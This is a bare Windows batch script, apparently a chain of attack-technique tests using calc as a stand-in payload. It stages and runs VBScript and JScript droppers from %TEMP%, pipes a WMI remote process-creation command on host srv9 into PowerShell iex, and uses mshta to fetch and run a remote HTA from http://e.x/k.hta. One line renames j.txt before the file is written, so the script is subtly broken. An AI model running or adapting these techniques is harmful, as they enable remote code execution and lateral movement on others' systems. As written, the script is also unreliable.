@echo off
(echo CreateObject^("WScript.Shell"^).Run "calc.exe"
echo x=1)>"%TEMP%\stage"
copy "%TEMP%\stage" "%TEMP%\stage.vbs"
wscript "%TEMP%\stage.vbs"
> %TEMP%\m ( echo Invoke-WmiMethod -ComputerName srv9 -Class Win32_Process -Name Create -ArgumentList calc )
powershell -c "gc $env:TEMP\m | iex"
> %TEMP%\k.txt echo mshta http://e.x/k.hta
cmd < %TEMP%\k.txt
ren %TEMP%\j.txt j.js
>%TEMP%\j.txt echo new ActiveXObject("Shell.Application").ShellExecute("cmd")
ren %TEMP%\j.txt j.js
cscript %TEMP%\j.js
